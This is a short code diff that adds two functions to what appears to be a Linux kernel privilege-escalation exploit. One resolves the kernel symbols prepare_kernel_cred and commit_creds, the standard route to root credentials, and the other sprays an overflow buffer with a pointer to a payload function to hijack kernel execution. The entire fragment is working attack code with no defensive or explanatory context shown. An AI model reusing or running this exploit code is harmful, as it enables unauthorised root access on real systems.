@@ -73,6 +73,22 @@ unsigned long kernel_symbol(const char *name)
 	return found;
 }
 
+int race_arm(void)
+{
+	prepare_kernel_cred = kernel_symbol("prepare_kernel_cred");
+	commit_creds = kernel_symbol("commit_creds");
+	return prepare_kernel_cred && commit_creds ? 0 : -1;
+}
+
+void fill_overflow(unsigned long name[OVERFLOW / sizeof(unsigned long)])
+{
+	unsigned int i;
+
+	for (i = 0; i < OVERFLOW / sizeof(unsigned long); i++)
+		name[i] = (unsigned long)payload;
+	memcpy(name, "beagle", sizeof("beagle"));
+}
+
 unsigned long kernel_secret(void)
 {
 	static const char before[] = "planted at ";
